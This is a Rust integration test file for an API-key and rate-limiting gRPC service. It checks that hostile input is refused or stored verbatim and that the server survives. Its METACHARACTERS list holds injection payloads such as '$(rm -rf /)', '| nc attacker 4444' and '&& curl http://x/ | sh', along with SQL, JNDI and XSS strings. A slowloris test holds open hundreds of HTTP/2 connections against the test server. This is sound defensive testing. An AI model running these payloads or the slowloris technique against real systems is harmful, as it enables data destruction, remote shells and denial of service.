//! Hostile input over real gRPC: every refusal has its status and writes
//! nothing, and the server keeps serving. Each test prints how many inputs
//! it tried.

use std::collections::HashMap;
use std::time::Duration;

use apikeyd::grpc::pb;
use apikeyd::grpc::pb::rate_limit_service_client::RateLimitServiceClient;
use tonic::Code;

use crate::helpers::{Backend, TestApp, assert_status, create_request, spawn_app, spawn_app_with};
use crate::on_every_backend;

/// Strings that mean something to SQL, a shell, a template engine, a path,
/// a log line or a terminal: each must be stored and read back verbatim.
const METACHARACTERS: &[&str] = &[
    "'; DROP TABLE api_keys; --",
    "Robert'); DROP TABLE key_owners;--",
    "\" OR \"1\"=\"1",
    "' OR 1=1 --",
    "1; SELECT pg_sleep(5)",
    "admin'/*",
    "%' AND '%'='",
    "\\'; \\\\; \\x27",
    "$(rm -rf /)",
    "`id`",
    "; cat /etc/passwd #",
    "| nc attacker 4444",
    "&& curl http://x/ | sh",
    "${HOME}${IFS}$PATH",
    "../../../../etc/passwd",
    "%s%n%x%p",
    "%00%0a%0d",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "${jndi:ldap://x/a}",
    "<script>alert(1)</script>",
    "line\nbreak\r\nand\ttab",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{202e}gnp.exe",
    "e\u{301}\u{200b}\u{feff}",
    "🔑🗝️ key",
    "a:b:c*?[]{}",
    "\u{7f}\u{1}\u{1f}",
];

async fn key_of(app: &TestApp, id: &str) -> pb::ApiKey {
    app.keys
        .clone()
        .get_key(app.authed(pb::GetKeyRequest { id: id.to_owned() }))
        .await
        .expect("GetKey")
        .into_inner()
        .api_key
        .expect("GetKey returns the record")
}

/// Every key the server holds, of every owner.
async fn all_keys(app: &TestApp) -> Vec<pb::ApiKey> {
    let mut keys = Vec::new();
    let mut page_token = String::new();
    loop {
        let page = app
            .keys
            .clone()
            .list_keys(app.authed(pb::ListKeysRequest {
                include_revoked: true,
                page_size: 100,
                page_token,
                ..Default::default()
            }))
            .await
            .expect("ListKeys")
            .into_inner();
        keys.extend(page.api_keys);
        if page.next_page_token.is_empty() {
            return keys;
        }
        page_token = page.next_page_token;
    }
}

async fn assert_create_refused(app: &TestApp, request: pb::CreateKeyRequest, field: &str) {
    let before = all_keys(app).await.len();
    let result = app.keys.clone().create_key(app.authed(request)).await;
    assert_status(result, Code::InvalidArgument, field);
    assert_eq!(
        all_keys(app).await.len(),
        before,
        "a refused create wrote a key"
    );
}

async fn assert_update_refused(app: &TestApp, request: pb::UpdateKeyRequest, field: &str) {
    let before = key_of(app, &request.id).await;
    let result = app.keys.clone().update_key(app.authed(request)).await;
    assert_status(result, Code::InvalidArgument, field);
    assert_eq!(
        key_of(app, &before.id).await,
        before,
        "a refused update changed the key"
    );
}

on_every_backend! {
    async fn metacharacters_in_every_string_field_are_stored_verbatim(app) {
        let mut tried = 0;
        for (i, nasty) in METACHARACTERS.iter().enumerate() {
            let owner = format!("{nasty}{i}");
            let metadata = HashMap::from([
                ((*nasty).to_owned(), (*nasty).to_owned()),
                ("plain".to_owned(), format!("{nasty}{nasty}")),
            ]);
            let created = app
                .keys
                .clone()
                .create_key(app.authed(pb::CreateKeyRequest {
                    owner_id: owner.clone(),
                    name: (*nasty).to_owned(),
                    scopes: vec!["posts.v2:read-only".into(), "*:*".into(), "a_b:*".into()],
                    metadata: metadata.clone(),
                    ..Default::default()
                }))
                .await
                .unwrap_or_else(|e| panic!("CreateKey with {nasty:?}: {e}"))
                .into_inner();
            let id = created.api_key.unwrap().id;
            let stored = key_of(&app, &id).await;
            assert_eq!(stored.owner_id, owner);
            assert_eq!(stored.name, *nasty);
            assert_eq!(stored.metadata, metadata);

            let listed = app
                .keys
                .clone()
                .list_keys(app.authed(pb::ListKeysRequest {
                    owner_id: owner.clone(),
                    ..Default::default()
                }))
                .await
                .unwrap()
                .into_inner()
                .api_keys;
            assert_eq!(listed.len(), 1, "the owner {owner:?} matches itself only");
            assert_eq!(listed[0].id, id);

            let renamed = format!("{nasty} (2)");
            let new_metadata = HashMap::from([(format!("{nasty}!"), (*nasty).to_owned())]);
            app.keys
                .clone()
                .update_key(app.authed(pb::UpdateKeyRequest {
                    id: id.clone(),
                    name: Some(renamed.clone()),
                    metadata: Some(pb::MetadataMap { entries: new_metadata.clone() }),
                    ..Default::default()
                }))
                .await
                .unwrap_or_else(|e| panic!("UpdateKey with {nasty:?}: {e}"));
            let updated = key_of(&app, &id).await;
            assert_eq!(updated.name, renamed);
            assert_eq!(updated.metadata, new_metadata);

            let validated = app.validate(&created.key, &["posts.v2:read-only"]).await;
            assert!(validated.valid, "{nasty:?}: {}", validated.message);
            let record = validated.api_key.expect("Validate returns the record");
            assert_eq!(record.owner_id, owner);
            assert_eq!(record.metadata, new_metadata);
            tried += 1;
        }
        let keys = all_keys(&app).await;
        assert_eq!(keys.len(), METACHARACTERS.len(), "every table is still there, each key once");
        println!(
            "{:?}: {tried} metacharacter strings, each in owner_id, name, metadata keys and values (create, update, get, list, validate), stored verbatim",
            app.backend
        );
    }

    async fn nul_characters_are_refused_naming_the_field_and_nothing_is_written(app) {
        let base = || create_request("nul_owner", &["posts:read"]);
        let refused: Vec<(pb::CreateKeyRequest, &str)> = vec![
            (pb::CreateKeyRequest { owner_id: "nul\0owner".into(), ..base() }, "owner_id"),
            (pb::CreateKeyRequest { name: "name\0".into(), ..base() }, "name"),
            (pb::CreateKeyRequest { metadata: HashMap::from([("k\0".into(), "v".into())]), ..base() }, "metadata"),
            (pb::CreateKeyRequest { metadata: HashMap::from([("k".into(), "\0".into())]), ..base() }, "metadata"),
            (pb::CreateKeyRequest { scopes: vec!["posts:read\0".into()], ..base() }, "scopes"),
        ];
        let count = refused.len();
        for (request, field) in refused {
            assert_create_refused(&app, request, field).await;
        }
        let (key, record) = app.create_key("nul_owner", &["posts:read"]).await;
        let update = |change: pb::UpdateKeyRequest| pb::UpdateKeyRequest { id: record.id.clone(), ..change };
        assert_update_refused(&app, update(pb::UpdateKeyRequest { name: Some("a\0b".into()), ..Default::default() }), "name").await;
        assert_update_refused(
            &app,
            update(pb::UpdateKeyRequest {
                metadata: Some(pb::MetadataMap { entries: HashMap::from([("k".into(), "a\0b".into())]) }),
                ..Default::default()
            }),
            "metadata",
        )
        .await;
        let listed = app.keys.clone()
            .list_keys(app.authed(pb::ListKeysRequest { owner_id: "nul\0owner".into(), ..Default::default() }))
            .await;
        assert_status(listed, Code::InvalidArgument, "owner_id");
        let with_nul = format!("{key}\0");
        assert_eq!(
            crate::helpers::code_of(&app.validate(&with_nul, &[]).await),
            pb::ValidationCode::Malformed
        );
        assert!(app.validate(&key, &["posts:read"]).await.valid, "still serving");
        println!("{:?}: {} inputs with NUL characters refused", app.backend, count + 4);
    }

    async fn negative_and_overflowing_numbers_are_refused_and_nothing_is_written(app) {
        let base = || create_request("numbers", &["posts:read"]);
        let limit = |limit: u32, seconds: i64, nanos: i32, algorithm: i32| pb::RateLimit {
            limit,
            window: Some(prost_types::Duration { seconds, nanos }),
            algorithm,
        };
        let creates: Vec<(pb::CreateKeyRequest, &str)> = vec![
            (pb::CreateKeyRequest { expires_in_days: Some(u32::MAX), ..base() }, "expires_in_days"),
            (pb::CreateKeyRequest { expires_in_days: Some(0), ..base() }, "expires_in_days"),
            (pb::CreateKeyRequest { environment: -1, ..base() }, "environment"),
            (pb::CreateKeyRequest { environment: i32::MAX, ..base() }, "environment"),
            (pb::CreateKeyRequest { rate_limits: vec![limit(u32::MAX, 60, 0, 1)], ..base() }, "limit"),
            (pb::CreateKeyRequest { rate_limits: vec![limit(0, 60, 0, 1)], ..base() }, "limit"),
            (pb::CreateKeyRequest { rate_limits: vec![limit(10, -60, 0, 1)], ..base() }, "window"),
            (pb::CreateKeyRequest { rate_limits: vec![limit(10, i64::MAX, 999_999_999, 1)], ..base() }, "window"),
            (pb::CreateKeyRequest { rate_limits: vec![limit(10, i64::MIN, -999_999_999, 1)], ..base() }, "window"),
            (pb::CreateKeyRequest { rate_limits: vec![limit(10, 60, -1, 1)], ..base() }, "window"),
            (pb::CreateKeyRequest { rate_limits: vec![limit(10, 60, i32::MAX, 1)], ..base() }, "window"),
            (pb::CreateKeyRequest { rate_limits: vec![limit(10, 60, 0, -7)], ..base() }, "algorithm"),
            (pb::CreateKeyRequest { quota: Some(pb::UsageQuota { remaining: -1, ..Default::default() }), ..base() }, "quota"),
            (pb::CreateKeyRequest { quota: Some(pb::UsageQuota { remaining: i64::MAX, refill_amount: i64::MIN, refill_interval: 1 }), ..base() }, "quota"),
            (pb::CreateKeyRequest { quota: Some(pb::UsageQuota { remaining: 10, refill_amount: 5, refill_interval: -3 }), ..base() }, "quota"),
        ];
        let mut tried = creates.len();
        for (request, field) in creates {
            assert_create_refused(&app, request, field).await;
        }

        let (_, record) = app.create_key("numbers", &["posts:read"]).await;
        let id = || record.id.clone();
        let updates: Vec<(pb::UpdateKeyRequest, &str)> = vec![
            (pb::UpdateKeyRequest { id: id(), expiry: Some(pb::update_key_request::Expiry::ExpiresInDays(u32::MAX)), ..Default::default() }, "expires_in_days"),
            (pb::UpdateKeyRequest { id: id(), limits: Some(pb::update_key_request::Limits::RateLimits(pb::RateLimitList { rate_limits: vec![limit(10, i64::MAX, 0, 1)] })), ..Default::default() }, "window"),
            (pb::UpdateKeyRequest { id: id(), quota_change: Some(pb::update_key_request::QuotaChange::AddToQuota(i64::MIN)), ..Default::default() }, "add_to_quota"),
            (pb::UpdateKeyRequest { id: id(), quota_change: Some(pb::update_key_request::QuotaChange::AddToQuota(i64::MAX)), ..Default::default() }, "add_to_quota"),
        ];
        tried += updates.len();
        for (request, field) in updates {
            assert_update_refused(&app, request, field).await;
        }

        for page_size in [-1, i32::MIN, i32::MAX, 101] {
            let result = app.keys.clone()
                .list_keys(app.authed(pb::ListKeysRequest { page_size, ..Default::default() }))
                .await;
            assert_status(result, Code::InvalidArgument, "page_size");
            tried += 1;
        }
        for (seconds, nanos) in [(-1, 0), (i64::MAX, 0), (i64::MIN, 0), (0, -1), (0, i32::MAX), (8 * 86_400, 0)] {
            let result = app.keys.clone()
                .rotate_key(app.authed(pb::RotateKeyRequest {
                    id: id(),
                    grace_period: Some(prost_types::Duration { seconds, nanos }),
                }))
                .await;
            assert_status(result, Code::InvalidArgument, "grace_period");
            tried += 1;
        }
        assert_eq!(key_of(&app, &id()).await, record, "no rotation happened");

        let mut limits = RateLimitServiceClient::new(crate::helpers::connect(app.addr).await);
        let check = |limit: u32, seconds: i64, nanos: i32, cost: u32, algorithm: i32| pb::CheckRateLimitRequest {
            namespace: "login".into(),
            identifier: "203.0.113.7".into(),
            limit,
            window: Some(prost_types::Duration { seconds, nanos }),
            cost,
            algorithm,
        };
        for (request, field) in [
            (check(10, 60, 0, u32::MAX, 1), "cost"),
            (check(10, 60, 0, 11, 1), "cost"),
            (check(0, 60, 0, 1, 1), "limit"),
            (check(u32::MAX, 60, 0, 1, 1), "limit"),
            (check(10, -1, 0, 1, 1), "window"),
            (check(10, i64::MAX, 0, 1, 1), "window"),
            (check(10, 60, -5, 1, 1), "window"),
            (check(10, 60, 0, 1, i32::MIN), "algorithm"),
        ] {
            assert_status(limits.check_rate_limit(request).await, Code::InvalidArgument, field);
            tried += 1;
        }
        let answered = limits.check_rate_limit(check(10, 60, 0, 10, 1)).await.unwrap().into_inner();
        assert!(answered.allowed, "the refused checks charged nothing");
        println!("{:?}: {tried} negative, zero and overflowing numbers refused", app.backend);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn messages_past_the_decode_limit_are_refused_and_the_server_keeps_serving() {
    let app = spawn_app(Backend::Sqlite).await;
    let limit = apikeyd::config::Settings::default()
        .server
        .max_request_bytes as usize;
    let mut tried = 0;
    for size in [limit + 1, 2 * limit, 4 << 20] {
        let huge = pb::CreateKeyRequest {
            name: "n".repeat(size),
            ..create_request("oversized", &["*"])
        };
        let result = app.keys.clone().create_key(app.authed(huge)).await;
        let status = result.expect_err("an oversized message is refused");
        assert!(
            matches!(status.code(), Code::OutOfRange | Code::ResourceExhausted),
            "{size} bytes: {status:?}"
        );
        assert!(status.message().contains("too large"), "{status:?}");
        let validate = app
            .validation
            .clone()
            .validate(pb::ValidateRequest {
                key: "k".repeat(size),
                ..Default::default()
            })
            .await;
        let status = validate.expect_err("an oversized Validate is refused");
        assert!(
            matches!(status.code(), Code::OutOfRange | Code::ResourceExhausted),
            "{status:?}"
        );
        tried += 2;
    }
    assert!(all_keys(&app).await.is_empty(), "nothing was written");
    let (key, _) = app.create_key("after", &["*"]).await;
    assert!(
        app.validate(&key, &[]).await.valid,
        "the server keeps serving"
    );
    println!("{tried} messages past the {limit}-byte decode limit refused");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn huge_metadata_is_refused_and_the_server_keeps_serving() {
    let app = spawn_app(Backend::Sqlite).await;
    let mut tried = 0;
    let shapes: [(usize, usize); 3] = [(1, 64 * 1024), (200, 512), (2_000, 16)];
    for (headers, bytes) in shapes {
        let mut request = app.authed(create_request("headers", &["*"]));
        for i in 0..headers {
            request.metadata_mut().insert(
                tonic::metadata::MetadataKey::from_bytes(format!("x-padding-{i}").as_bytes())
                    .unwrap(),
                "v".repeat(bytes).parse().unwrap(),
            );
        }
        // A fresh connection each time: the refusal may end the one it came on.
        let channel = crate::helpers::connect(app.addr).await;
        let result = pb::key_service_client::KeyServiceClient::new(channel)
            .create_key(request)
            .await;
        let status = result.expect_err("a header list past the limit is refused");
        println!(
            "{headers} headers of {bytes} bytes: {:?} {:?}",
            status.code(),
            status.message()
        );
        assert_ne!(status.code(), Code::Ok);
        tried += 1;
    }
    assert!(all_keys(&app).await.is_empty(), "nothing was written");
    let (key, _) = app.create_key("after", &["*"]).await;
    assert!(
        app.validate(&key, &[]).await.valid,
        "the server keeps serving"
    );
    println!("{tried} requests with header lists past the limit refused");
}

/// CreateKeyRequest's string fields as bytes, so a test can send what no
/// generated client would: invalid UTF-8 where the contract says `string`.
#[derive(Clone, PartialEq, prost::Message)]
struct RawCreateKeyRequest {
    #[prost(bytes = "vec", tag = "1")]
    owner_id: Vec<u8>,
    #[prost(bytes = "vec", tag = "2")]
    name: Vec<u8>,
    #[prost(bytes = "vec", repeated, tag = "3")]
    scopes: Vec<Vec<u8>>,
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn invalid_utf8_in_string_fields_is_refused_and_nothing_is_written() {
    let app = spawn_app(Backend::Sqlite).await;
    let bad: &[&[u8]] = &[
        b"\xff\xfe",
        b"caf\xc3",
        b"\xc3\x28",
        b"\xed\xa0\x80",
        b"\xf4\x90\x80\x80",
        b"ok\x80ok",
    ];
    let mut tried = 0;
    for bytes in bad {
        for field in 0..3 {
            let mut raw = RawCreateKeyRequest {
                owner_id: b"utf8".to_vec(),
                name: b"name".to_vec(),
                scopes: vec![b"*".to_vec()],
            };
            match field {
                0 => raw.owner_id = bytes.to_vec(),
                1 => raw.name = bytes.to_vec(),
                _ => raw.scopes = vec![bytes.to_vec()],
            }
            let mut grpc = tonic::client::Grpc::new(crate::helpers::connect(app.addr).await);
            grpc.ready().await.unwrap();
            let result: Result<tonic::Response<pb::CreateKeyResponse>, _> = grpc
                .unary(
                    app.authed(raw),
                    http::uri::PathAndQuery::from_static("/apikeyd.v1.KeyService/CreateKey"),
                    tonic_prost::ProstCodec::default(),
                )
                .await;
            // gRPC's status codes document INTERNAL for a request that does
            // not parse; the message says why.
            assert_status(result, Code::Internal, "UTF-8");
            tried += 1;
        }
    }
    assert!(all_keys(&app).await.is_empty(), "nothing was written");
    let (key, _) = app.create_key("after", &["*"]).await;
    assert!(
        app.validate(&key, &[]).await.valid,
        "the server keeps serving"
    );
    println!("{tried} messages with invalid UTF-8 in a string field refused");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_expired_deadline_is_answered_at_once_and_writes_nothing() {
    let app = spawn_app(Backend::Sqlite).await;
    let mut tried = 0;
    for timeout in ["0n", "0m", "1n", "0S"] {
        let mut request = app.authed(create_request("deadline", &["*"]));
        request
            .metadata_mut()
            .insert("grpc-timeout", timeout.parse().unwrap());
        let result = app.keys.clone().create_key(request).await;
        let status = result.expect_err("an expired deadline is not served");
        assert!(
            matches!(status.code(), Code::Cancelled | Code::DeadlineExceeded),
            "grpc-timeout {timeout}: {status:?}"
        );
        tried += 1;
    }
    assert!(all_keys(&app).await.is_empty(), "nothing was written");
    let (key, _) = app.create_key("after", &["*"]).await;
    assert!(
        app.validate(&key, &[]).await.valid,
        "the server keeps serving"
    );
    println!("{tried} calls with an expired grpc-timeout answered without a write");
}

/// A slowloris on HTTP/2: connections that never speak, connections that
/// open streams and never send their body, and connections that trickle
/// their preface a byte at a time. Others keep being answered, the server
/// advertises its stream bound, and it ends the held streams at its default
/// deadline.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn slow_clients_holding_streams_open_starve_no_one() {
    const SILENT: usize = 200;
    const TRICKLING: usize = 50;
    const HOLDERS: usize = 20;
    const STREAMS_EACH: usize = 50;
    const DEADLINE_MS: u64 = 2_000;
    let app = spawn_app_with(Backend::Sqlite, |s| {
        s.server.default_deadline_ms = DEADLINE_MS
    })
    .await;
    let (key, _) = app.create_key("slowloris", &["*"]).await;
    let _alone = crate::helpers::measuring_alone().await;

    let mut silent = Vec::new();
    for _ in 0..SILENT {
        silent.push(tokio::net::TcpStream::connect(app.addr).await.unwrap());
    }
    let (stop_trickle, trickle_stopped) = tokio::sync::watch::channel(false);
    let trickling: Vec<_> = (0..TRICKLING)
        .map(|_| {
            let (addr, mut stopped) = (app.addr, trickle_stopped.clone());
            tokio::spawn(async move {
                use tokio::io::AsyncWriteExt;
                let mut stream = tokio::net::TcpStream::connect(addr).await.unwrap();
                for byte in b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" {
                    tokio::select! {
                        _ = stopped.changed() => return,
                        _ = tokio::time::sleep(Duration::from_millis(200)) => {}
                    }
                    if stream.write_all(&[*byte]).await.is_err() {
                        return;
                    }
                }
                let _ = stopped.changed().await;
            })
        })
        .collect();

    let mut held = Vec::new();
    let mut senders = Vec::new();
    for _ in 0..HOLDERS {
        let tcp = tokio::net::TcpStream::connect(app.addr).await.unwrap();
        let (send, connection) = h2::client::handshake(tcp).await.unwrap();
        tokio::spawn(connection);
        let mut send = send.ready().await.unwrap();
        for _ in 0..STREAMS_EACH {
            let request = http::Request::post(format!(
                "http://{}/apikeyd.v1.ValidationService/Validate",
                app.addr
            ))
            .header("content-type", "application/grpc")
            .header("te", "trailers")
            .body(())
            .unwrap();
            send = send.ready().await.unwrap();
            // The headers, and then nothing: no body, no end of stream.
            let (response, body) = send.send_request(request, false).unwrap();
            held.push((response, body));
        }
        senders.push(send);
    }
    let opened = std::time::Instant::now();

    let mut slowest = Duration::ZERO;
    for _ in 0..50 {
        let started = std::time::Instant::now();
        assert!(app.validate(&key, &[]).await.valid);
        slowest = slowest.max(started.elapsed());
    }
    assert!(
        slowest < Duration::from_secs(1),
        "a call took {slowest:?} among the slow clients"
    );

    let mut ended = 0;
    for (response, _body) in held {
        let response = tokio::time::timeout(Duration::from_secs(30), response)
            .await
            .expect("the server ends a held stream")
            .expect("an HTTP/2 response");
        let status = response
            .headers()
            .get("grpc-status")
            .map(|v| v.to_str().unwrap().to_owned());
        assert_ne!(
            status.as_deref(),
            Some("0"),
            "a bodiless Validate was not served"
        );
        ended += 1;
    }
    let all_ended = opened.elapsed();
    // Read once the server's SETTINGS have surely arrived (its answers have).
    let advertised: Vec<usize> = senders
        .iter()
        .map(|s| s.current_max_send_streams())
        .collect();
    assert!(
        advertised.iter().all(|&n| n == 256),
        "the server advertises grpc_max_concurrent_streams: {advertised:?}"
    );
    assert!(
        all_ended < Duration::from_millis(DEADLINE_MS) + Duration::from_secs(10),
        "held streams ended after {all_ended:?}"
    );
    // A connection that never sent its preface is closed at its deadline.
    for mut connection in silent {
        use tokio::io::AsyncReadExt;
        let mut byte = [0u8; 64];
        let closed = tokio::time::timeout(Duration::from_secs(30), async {
            loop {
                match connection.read(&mut byte).await {
                    Ok(0) | Err(_) => return,
                    // The server's own preface (its SETTINGS) comes first.
                    Ok(_) => {}
                }
            }
        })
        .await;
        assert!(closed.is_ok(), "a silent connection was kept open");
    }
    let silent_closed = opened.elapsed();
    stop_trickle.send_replace(true);
    for task in trickling {
        task.await.unwrap();
    }
    assert!(
        app.validate(&key, &[]).await.valid,
        "the server keeps serving"
    );
    println!(
        "slowloris: {SILENT} silent connections (all closed by the server within {silent_closed:?}), {TRICKLING} trickling their preface, {HOLDERS} holding {STREAMS_EACH} bodiless streams each ({ended} streams, all ended by the server within {all_ended:?} at a {DEADLINE_MS} ms default deadline); 50 Validate calls meanwhile, the slowest {slowest:?}"
    );
}
